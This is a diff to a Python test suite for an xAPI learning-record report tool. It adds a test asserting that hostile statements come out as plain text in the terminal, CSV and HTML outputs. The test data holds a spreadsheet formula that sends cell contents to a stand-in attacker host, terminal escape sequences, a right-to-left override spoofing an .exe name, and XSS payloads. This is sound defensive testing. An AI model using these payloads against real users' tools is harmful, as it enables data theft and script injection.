@@ -3,6 +3,7 @@ records reach a real Ralph, and `parcours report` reads them back from it, as fi
 and as an HTML page that passes axe. Run against Ralph with its filters fixed (the LRS filters)
 and with its upstream defect kept (the report must filter by itself, and be just as right)."""
 
+import csv
 import datetime
 import json
 import os
@@ -144,3 +145,57 @@ def test_a_nightly_run_with_a_cache_fetches_only_what_is_new_and_keeps_the_lates
     total = third["courses"][0]["total"]
     assert (total["completed"], total["learners"], total["satisfaction_mean"]) == (0, 1, 5.0)
     assert third["statements_voided"] == 1
+
+
+def test_hostile_statements_reach_the_terminal_the_spreadsheet_and_the_page_as_plain_text(ralph, tmp_path):
+    """Anyone may POST a statement through the site's proxy: what it says must not command the
+    operator's terminal (escape sequences, a carriage return), be evaluated by a spreadsheet (a
+    formula), nor become markup in the HTML report."""
+    title = '=HYPERLINK("https://attaquant.example/?"&A1,"clic")\x1b]0;pwned\x07\x1b[2J\x1b[31m\rÉcrasé<b>gras</b>'
+    question = "Question\x9b31m\u202etxt.exe<img src=x onerror=alert(1)>"
+    course = {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile",
+              "definition": {"type": "http://adlnet.gov/expapi/activities/course", "name": {"fr": title}}}
+    assessment = {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile/assessments/final",
+                  "definition": {"type": "http://adlnet.gov/expapi/activities/assessment"}}
+    actor = {"objectType": "Agent", "account": {"homePage": "https://parcours.example.org", "name": "l1"}}
+    now = datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
+    context = {"registration": str(uuid.uuid4()), "contextActivities": {"parent": [assessment], "grouping": [course]}}
+    statements = [
+        {"id": str(uuid.uuid4()), "actor": actor, "object": course, "timestamp": now,
+         "verb": {"id": "http://id.tincanapi.com/verb/rated", "display": {"en-US": "rated"}},
+         "result": {"score": {"raw": 4, "min": 1, "max": 5, "scaled": 0.75}, "response": "Merci\x1b[2J<script>x</script>"},
+         "context": {"registration": context["registration"]}},
+        {"id": str(uuid.uuid4()), "actor": actor, "timestamp": now, "context": context,
+         "object": {"objectType": "Activity", "id": "https://parcours.example.org/courses/hostile/questions/q1",
+                    "definition": {"type": "http://adlnet.gov/expapi/activities/cmi.interaction",
+                                   "name": {"fr": question}}},
+         "verb": {"id": "http://adlnet.gov/expapi/verbs/answered", "display": {"en-US": "answered"}},
+         "result": {"success": False}},
+    ]
+    answer = requests.post(f"{ralph.url}/xAPI/statements", json=statements, auth=ralph.auth,
+                           headers={"X-Experience-API-Version": "1.0.3"}, timeout=10)
+    assert answer.status_code == 200, answer.text
+
+    def commands(text):
+        return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
+
+    table = report(ralph).stdout
+    assert commands(table) == [], repr(table)
+    assert "\\u{1b}]0;pwned\\u{7}\\u{1b}[2J" in table and "Question\\u{9b}31m\\u{202e}txt.exe" in table, table
+
+    csv_text = report(ralph, "--csv").stdout
+    assert commands(csv_text) == []
+    rows = list(csv.reader(csv_text.splitlines()))
+    assert rows[1][1].startswith("'=HYPERLINK("), rows[1]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+    assert rows[1][3] == "1", "the figures stay numbers"
+
+    page = tmp_path / "rapport.html"
+    report(ralph, "--html", str(page))
+    html = page.read_text()
+    assert commands(html) == []
+    assert "<script" not in html and "<img" not in html and "<b>" not in html
+    assert "&lt;b&gt;gras&lt;/b&gt;" in html and "&lt;script&gt;x&lt;/script&gt;" in html
+
+    as_json = report(ralph, "--json").stdout
+    assert commands(as_json) == [] and "\\u001b" not in as_json, "escaped before JSON is written"
